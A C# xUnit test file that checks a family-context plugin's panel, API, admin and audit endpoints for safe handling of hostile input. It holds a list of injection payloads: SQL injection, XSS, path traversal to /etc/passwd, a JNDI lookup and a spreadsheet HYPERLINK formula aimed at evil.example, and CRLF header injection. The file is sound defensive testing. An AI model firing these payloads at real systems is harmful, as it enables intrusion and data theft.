using System.Net;
using FamilyContext.Plugin.Tests.Support;

namespace FamilyContext.Plugin.Tests.Security;

/// <summary>Hostile strings in every id and field: refused or safely encoded, never a server error, never echoed as markup.</summary>
public sealed class InjectionTests : IClassFixture<OidcProviderFixture>, IDisposable
{
    private const string ChildId = "750001";
    private readonly OidcProviderFixture _provider;
    private readonly PluginFactory _factory = new();

    public InjectionTests(OidcProviderFixture provider)
    {
        _provider = provider;
        provider.Configure(_factory);
        _factory.Time.Set(DateTimeOffset.UtcNow);
        _factory.Cms.Add(People.Person(ChildId, "Ian", "Jection", new DateOnly(2016, 4, 4)));
    }

    public static TheoryData<string> Hostile() =>
    [
        "' OR '1'='1' --", "1; DROP TABLE audit_log; --", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "../../../../etc/passwd",
        "..%2F..%2Fetc%2Fpasswd", "%00", "${jndi:ldap://evil.example/a}", "{{7*7}}", "@Html.Raw(\"x\")", "=HYPERLINK(\"http://evil.example\")",
        "\u202Egnp.exe", new string('A', 5000), "a\r\nSet-Cookie: owned=1", "😀👪", "NULL",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task Hostile_ids_in_panel_and_api_paths_are_refused_without_a_server_error(string hostile)
    {
        using var browser = _factory.Browser();
        var session = await _factory.LaunchAsync(browser, ChildId);
        var h = Uri.EscapeDataString(hostile);

        foreach (var path in new[]
        {
            $"/panel/{h}", $"/api/v1/panel/{h}", $"/panel/{session}/people/{h}/services/police", $"/panel/{session}/people/{ChildId}/services/{h}",
            $"/api/v1/panel/{session}/people/{h}/services/police", $"/launch/{h}?token=x", $"/launch/demo?token={h}",
        })
        {
            var response = await browser.GetAsync(new Uri(path, UriKind.Relative));
            var body = await response.Content.ReadAsStringAsync();

            Assert.True((int)response.StatusCode is >= 400 and < 500, $"{path} answered {(int)response.StatusCode}");
            AssertNotEchoed(hostile, body);
            Assert.False(response.Headers.TryGetValues("Set-Cookie", out var cookies) && cookies.Any(c => c.StartsWith("owned", StringComparison.Ordinal)));
        }
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public async Task Hostile_text_in_the_find_form_and_admin_forms_is_refused_or_stored_and_shown_as_text(string hostile)
    {
        using var worker = _factory.Browser();
        using var manager = _factory.Browser();
        await _provider.SignInAsync(worker, "sw-inj", ["social-worker"], [FamilyContext.Plugin.Demo.DemoLaunchKey.WorkersGroup]);
        await _provider.SignInAsync(manager, "mgr-inj", ["manager"], returnUrl: "/admin/access");

        var find = await worker.SubmitAsync("/find", "/find", ("childId", hostile), ("reason", hostile));
        var rule = await manager.SubmitAsync("/admin/access", "/admin/access", ("effect", "Deny"), ("kind", "Group"), ("subject", hostile), ("note", hostile));
        var badEnum = await manager.SubmitAsync("/admin/access", "/admin/access", ("effect", hostile), ("kind", hostile), ("subject", "x"));
        var search = await manager.GetAsync(new Uri($"/admin/audit?from={Uri.EscapeDataString(hostile)}&user={Uri.EscapeDataString(hostile)}&child={Uri.EscapeDataString(hostile)}", UriKind.Relative));
        var export = await manager.GetAsync(new Uri($"/admin/audit/export.csv?user={Uri.EscapeDataString(hostile)}", UriKind.Relative));

        Assert.Equal(HttpStatusCode.BadRequest, find.StatusCode);
        Assert.Contains(rule.StatusCode, new[] { HttpStatusCode.Redirect, HttpStatusCode.BadRequest });
        Assert.Equal(HttpStatusCode.BadRequest, badEnum.StatusCode);
        Assert.Contains(search.StatusCode, new[] { HttpStatusCode.OK, HttpStatusCode.BadRequest });
        Assert.Contains(export.StatusCode, new[] { HttpStatusCode.OK, HttpStatusCode.BadRequest });
        foreach (var response in new[] { find, rule, badEnum, search })
        {
            AssertNotEchoed(hostile, await response.Content.ReadAsStringAsync());
        }

        AssertNotEchoed(hostile, await manager.GetStringAsync(new Uri("/admin/access", UriKind.Relative)));
        Assert.DoesNotContain("\n\"=HYPERLINK", await export.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    /// <summary>Markup-bearing input must come back encoded (or not at all), and no error detail may leak.</summary>
    private static void AssertNotEchoed(string hostile, string body)
    {
        if (hostile.Contains('<', StringComparison.Ordinal))
        {
            Assert.DoesNotContain(hostile, body, StringComparison.Ordinal);
        }

        Assert.DoesNotContain("<script>alert", body, StringComparison.Ordinal);
        Assert.DoesNotContain("<img src=x", body, StringComparison.Ordinal);
        Assert.DoesNotContain("Exception", body, StringComparison.Ordinal);
    }

    public void Dispose() => _factory.Dispose();
}
